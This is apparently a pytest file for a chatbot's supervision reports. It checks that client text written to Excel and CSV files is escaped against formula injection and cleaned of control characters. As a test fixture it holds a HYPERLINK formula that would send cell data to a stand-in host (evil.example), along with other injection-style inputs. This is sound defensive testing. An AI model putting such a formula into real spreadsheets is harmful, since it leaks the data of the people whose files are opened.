"""Client text in the report files: never a live formula, never a character that breaks them.

Each file is written by the real writer and read back (openpyxl, csv), as a supervisor's
spreadsheet would read it.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from chatbot.supervision.cells import MAX_CELL, cell_text
from chatbot.supervision.reports import export_cases, write_daily, write_monthly
from db.queries import SURVEY
from tests.chat_driver import ChatDriver
from tests.supervision.builder import NOW, CaseBuilder, standard_day, utc

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
DAY = date(2026, 11, 23)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (LINK, "'" + LINK),
        ("+62 811 222", "'+62 811 222"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("\x01=1+2", "'=1+2"),  # removing what cannot be stored must not uncover a formula
        ("halo \x01\x0b kak", "halo  kak"),
        ("baris 1\nbaris 2\tok", "baris 1\nbaris 2\tok"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cell_text_keeps_text_as_text_when_it_looks_like_a_formula(
    text: str, expected: str
) -> None:
    assert cell_text(text) == expected


def test_cell_text_fits_a_cell_when_the_text_is_longer() -> None:
    assert len(cell_text("x" * (MAX_CELL + 10))) == MAX_CELL
    assert cell_text("=" * (MAX_CELL + 10)) == "'" + "=" * (MAX_CELL - 1)


def _hostile_case(builder: CaseBuilder) -> int:
    """A case whose client name, story and survey comment are all formulas."""
    case, _ = builder.client_case(utc(4, 30), name=LINK)
    builder.set(case, context_json=json.dumps({"story": "-2+3 @cmd"}))
    with builder.engine.begin() as conn:
        conn.execute(
            SURVEY.insert().values(case_id=case, rating=1, comment="+1 kak", created_at=utc(5))
        )
    return case


def test_daily_log_keeps_client_formulas_as_text_when_read_back(
    builder: CaseBuilder, tmp_path: Path
) -> None:
    standard_day(builder)
    case = _hostile_case(builder)
    out = tmp_path / "daily.xlsx"
    with builder.engine.connect() as conn:
        write_daily(conn, builder.desk.profile(), DAY, out, now=NOW)
    sheet = load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("Case")].value == case)
    cells = {name: row[i] for i, name in enumerate(header)}
    assert cells["Client"].value == "'" + LINK
    assert cells["Problem summary"].value == "'-2+3 @cmd"
    assert cells["Comment"].value == "'+1 kak"
    for name in ("Client", "Problem summary", "Comment"):
        assert cells[name].data_type == "s", name
    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_monthly_workbook_keeps_survey_comments_as_text_when_read_back(
    builder: CaseBuilder, tmp_path: Path
) -> None:
    ids = standard_day(builder)
    with builder.engine.begin() as conn:
        conn.execute(update(SURVEY).where(SURVEY.c.case_id == ids["A"]).values(comment=LINK))
    out = tmp_path / "monthly.xlsx"
    with builder.engine.connect() as conn:
        write_monthly(conn, builder.desk.profile(), 2026, 11, out, now=NOW)
    book = load_workbook(out)
    comments = [c for row in book["CSAT"].iter_rows(min_row=8) for c in row if c.column == 3]
    found = [c for c in comments if c.value == "'" + LINK]
    assert len(found) == 1
    assert found[0].data_type == "s"
    for sheet in book.worksheets:
        assert [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"] == []


def test_csv_export_keeps_client_formulas_as_text(builder: CaseBuilder) -> None:
    standard_day(builder)
    case = _hostile_case(builder)
    builder.set(case, fields_json=json.dumps({"outlet": "toko;=1+2"}))
    out = io.StringIO()
    with builder.engine.connect() as conn:
        export_cases(conn, builder.desk.profile(), DAY, DAY, "csv", out, now=NOW)
    text = out.getvalue()
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["Case"] == str(case))
    assert row["Client"] == "'" + LINK
    assert row["Problem summary"] == "'-2+3 @cmd"
    assert row["Comment"] == "'+1 kak"
    # Every field quoted: a spreadsheet splitting on ';' still sees one cell, not '=1+2'.
    assert '"toko;=1+2"' in text
    assert text.startswith('"Date","Case",')


def test_daily_log_is_written_when_a_web_chat_message_has_control_characters(
    builder: CaseBuilder, tmp_path: Path
) -> None:
    standard_day(builder)
    chat = ChatDriver(builder.desk, builder.engine, channel="web", chat_id="web-ctrl")
    builder.at(utc(6, 10))
    chat.client_says("halo", sender_name="Ani\x07")
    chat.client_says("halo \x01\x0b kak, printer nya mati")
    out = tmp_path / "daily.xlsx"
    with builder.engine.connect() as conn:
        rows = write_daily(conn, builder.desk.profile(), DAY, out, now=NOW)
    sheet = load_workbook(out).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert rows == len(values) - 1
    last = dict(zip(values[0], values[-1], strict=True))
    assert last["Channel"] == "web"
    assert last["Client"] == "Ani"
    assert last["Problem summary"] == "halo  kak, printer nya mati"
